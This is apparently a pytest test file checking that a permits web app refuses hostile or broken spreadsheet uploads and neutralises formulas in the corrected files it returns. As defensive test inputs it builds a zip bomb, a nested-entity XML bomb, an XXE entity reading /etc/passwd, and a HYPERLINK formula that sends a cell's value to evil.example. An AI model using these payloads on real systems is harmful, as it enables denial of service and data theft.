"""Uploaded spreadsheets made to exhaust the server, or broken, are refused with a message that
says the limit, after bounded work, with nothing stored; the files given back never run the
uploader's formulas."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from permits import spreadsheets
from permits.models import Application, Role
from permits.services import attachments
from permits.services.bulk_sheets import columns
from permits.services.errors import ValidationFailed
from permits.spreadsheets import Limits, MiB, read_table
from tests.factories import make_user
from tests.test_bulk_upload import (
    HEADERS,
    browser,
    count,
    csv_bytes,
    problems_on,
    upload,
    vehicle,
)

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ONE_SHEET = '<sheets><sheet name="vehicles" sheetId="1" r:id="rId1"/></sheets>'


def header_row() -> str:
    """The template's column names as the first row, in inline strings."""
    cells = "".join(
        f'<c r="{_column(i)}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for i, name in enumerate(HEADERS, start=1)
    )
    return f'<row r="1">{cells}</row>'


def _column(index: int) -> str:
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def workbook(
    rows: str = "",
    *,
    sheets: str = ONE_SHEET,
    sheet_xml: str | None = None,
    workbook_prolog: str = "",
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """A minimal XLSX written part by part, so that a test can put anything in a part."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{DOC_RELS}/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'{workbook_prolog}<workbook xmlns="{MAIN}" xmlns:r="{DOC_RELS}">{sheets}</workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{DOC_RELS}/'
            'worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/worksheets/sheet1.xml",
            sheet_xml
            if sheet_xml is not None
            else f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>',
        )
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def refused(client: FlaskClient, content: bytes, name: str = "fleet.xlsx") -> str:
    """The upload page's answer to a refused file: 422, nothing created, nothing kept."""
    response = upload(client, content, name)
    assert response.status_code == 422, response.status_code
    assert count(Application) == 0
    kept = attachments.upload_dir() / "bulk"
    assert not kept.exists() or not any(kept.iterdir())
    return response.get_data(as_text=True)


def reads(content: bytes, limits: Limits) -> list[tuple[int, list[Any]]]:
    return list(read_table(content, limits))


def refusal(content: bytes, limits: Limits) -> str:
    with pytest.raises(ValidationFailed) as caught:
        reads(content, limits)
    return str(caught.value.fields["file"])


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    for path in (attachments.upload_dir() / "bulk").glob("*"):
        path.unlink()  # what earlier tests kept: this file asserts that nothing is kept
    return browser(app, make_user(Role.ENTERPRISE))


# --- the bomb and its kin, through the upload page --------------------------------------------


def test_a_zip_of_empty_rows_is_refused_from_its_directory_before_it_is_parsed(
    client: FlaskClient,
) -> None:
    """The 355 KB bomb in small: 400,000 empty rows pack about a thousand times."""
    bomb = workbook(header_row() + "<row/>" * 400_000)
    assert len(bomb) < 20_000
    started = time.monotonic()
    page = refused(client, bomb)
    assert "unpacks to more than 100 times its packed size" in page
    assert time.monotonic() - started < 2
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "zh-CN"
    assert "解压后超过压缩大小的 100 倍" in refused(client, bomb)


def test_blank_rows_count_toward_the_limit_of_rows_read(app: Flask, client: FlaskClient) -> None:
    app.config["BULK_MAX_ROWS"] = 3
    rows = (
        header_row() + "<row/>" * 1500 + '<row><c t="inlineStr"><is><t>沪A00001</t></is></c></row>'
    )
    page = refused(client, workbook(rows))
    assert "A sheet has more than 1004 rows, blank rows included" in page


def test_a_part_that_unpacks_beyond_the_limit_is_refused(client: FlaskClient) -> None:
    noise = bytes(range(256)) * (33 * 4096)  # 33 MiB: the size is refused first
    page = refused(client, workbook(header_row(), extra={"xl/media/image1.png": noise}))
    assert "The file unpacks to more than 32 MB" in page


def test_an_xml_bomb_or_external_entity_is_refused_as_a_document_type(
    client: FlaskClient,
) -> None:
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
        + "".join(
            f'<!ENTITY {n} "{("&" + p + ";") * 10}">'
            for p, n in zip("abcdefgh", "bcdefghi", strict=True)
        )
        + f']><worksheet xmlns="{MAIN}"><sheetData><row><c t="inlineStr"><is><t>&i;</t></is>'
        "</c></row></sheetData></worksheet>"
    )
    page = refused(client, workbook(sheet_xml=laughs))
    assert "declares an XML document type" in page
    external = '<?xml version="1.0"?><!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    page = refused(client, workbook(header_row(), workbook_prolog=external))
    assert "declares an XML document type" in page


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (
            workbook(sheet_xml=f'<worksheet xmlns="{MAIN}"><sheetData><row>'),
            "a.xlsx",
            "not an XLSX",
        ),
        (workbook(header_row(), sheets="<sheets/>"), "a.xlsx", "The workbook has no sheet."),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64), "a.xlsx", "neither an XLSX"),
        (spreadsheets.OLE_MAGIC + bytes(512), "a.xls", "Excel 97-2003 workbook (.xls)"),
        (spreadsheets.OLE_MAGIC + bytes(512), "encrypted.xlsx", "protected by a password"),
        (b"PK\x03\x04 cut short", "a.xlsx", "not an XLSX"),
        (b"PK\x05\x06" + bytes(18), "empty.xlsx", "not an XLSX"),
    ],
    ids=["malformed", "no-sheet", "png", "xls", "encrypted", "cut-zip", "empty-zip"],
)
def test_a_broken_or_foreign_file_gets_a_message_never_a_500(
    client: FlaskClient, content: bytes, name: str, message: str
) -> None:
    assert message in refused(client, content, name)


def test_a_zip_that_is_not_a_workbook_is_refused(client: FlaskClient) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "hello")
    assert "not an XLSX" in refused(client, out.getvalue())


def test_the_time_a_read_may_take_is_bounded(app: Flask, client: FlaskClient) -> None:
    app.config["SPREADSHEET_READ_SECONDS"] = 0
    page = refused(client, workbook(header_row()))
    assert "Reading the file took longer than 0 seconds" in page


def test_a_workbook_written_part_by_part_within_the_limits_still_reads(
    client: FlaskClient,
) -> None:
    row = vehicle(1)
    cells = "".join(
        f'<c r="{_column(i)}2" t="inlineStr"><is><t>{row.get(key, "")}</t></is></c>'
        for i, (key, _) in enumerate(columns(3), start=1)
    )
    response = upload(client, workbook(header_row() + f'<row r="2">{cells}</row>'))
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "1 of 1 rows can be submitted" in page


# --- each bound of the reader, lowered -------------------------------------------------------


def test_rows_a_sheet_skips_count_as_read() -> None:
    """One row numbered 1,048,576: openpyxl yields every row before it, blank."""
    content = workbook('<row r="1048576"><c t="inlineStr"><is><t>x</t></is></c></row>')
    assert "more than 10 rows" in refusal(content, Limits(rows=10))


def test_rows_of_a_csv_count_blank_or_not() -> None:
    assert "more than 10 rows" in refusal(b"a,b\n" + b"\n" * 20, Limits(rows=10))
    assert len(reads(b"a,b\n" + b"\n" * 9, Limits(rows=10))) == 10


def test_cells_in_a_row_and_in_the_file_are_bounded() -> None:
    wide = workbook("<row>" + "<c/>" * 1025 + "</row>")
    assert "A row has more than 1024 cells" in refusal(wide, Limits(rows=100))
    three_rows = workbook("".join("<row>" + "<c/>" * 50 + "</row>" for _ in range(3)))
    assert "The file has more than 100 cells" in refusal(three_rows, Limits(rows=10, columns=10))
    assert len(reads(three_rows, Limits(rows=10, columns=50))) == 3


def test_shared_strings_are_bounded_in_number_and_in_characters() -> None:
    def with_strings(items: str) -> bytes:
        return workbook(
            '<row><c t="s"><v>0</v></c></row>',
            extra={"xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{items}</sst>'.encode()},
        )

    limits = Limits(rows=10, shared_strings=100, shared_string_chars=1000)
    assert "more than 100 different texts" in refusal(
        with_strings("<si><t>a</t></si>" * 101), limits
    )
    assert "1000 characters" in refusal(with_strings(f"<si><t>{'a' * 1001}</t></si>"), limits)


def test_parts_and_their_total_are_bounded() -> None:
    parts = {f"docProps/p{n}.xml": b"<p/>" for n in range(10)}
    assert "more than 12 parts" in refusal(workbook(extra=parts), Limits(rows=10, parts=12))
    listed: list[int] = []
    with pytest.MonkeyPatch.context() as patch:  # refused from the end record, unlisted
        patch.setattr(zipfile.ZipFile, "infolist", lambda self: listed.append(1) or [])
        assert "more than 12 parts" in refusal(workbook(extra=parts), Limits(rows=10, parts=12))
    assert not listed
    big = {"xl/media/a.bin": b"\x01" * MiB, "xl/media/b.bin": b"\x01" * MiB}
    limits = Limits(rows=10, total_bytes=MiB * 3 // 2, ratio_from=4 * MiB)
    assert "The file unpacks to more than 1 MB" in refusal(workbook(extra=big), limits)


# --- the files given back ---------------------------------------------------------------------


def test_the_corrected_files_give_the_uploaders_formulas_back_as_text(
    client: FlaskClient,
) -> None:
    formulas = {
        "plate": '=HYPERLINK("http://evil.example/?"&B3,"fix")',
        "driver1_name": "@SUM(1+1)",
        "driver2_name": "-2+3",
        "driver1_phone": "+8613900000001",
    }
    response = upload(client, csv_bytes([vehicle(1, **formulas)]), "fleet.csv")
    result_url = response.headers["Location"]
    corrected = client.get(result_url + "/corrected.csv").data.decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(corrected)))
    for value in formulas.values():
        assert "'" + value in table[1]
    book = load_workbook(io.BytesIO(client.get(result_url + "/corrected.xlsx").data))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + formulas["plate"] in [cell.value for cell in cells]
    # Uploaded again, a text is what it was: the phone is the phone.
    again = upload(client, corrected.encode("utf-8-sig"), "fixed.csv")
    flagged = problems_on(client.get(again.headers["Location"]).get_data(as_text=True))
    assert (2, "车牌号 plate") in flagged
    assert not [column for _, column in flagged if "driver1_phone" in column]
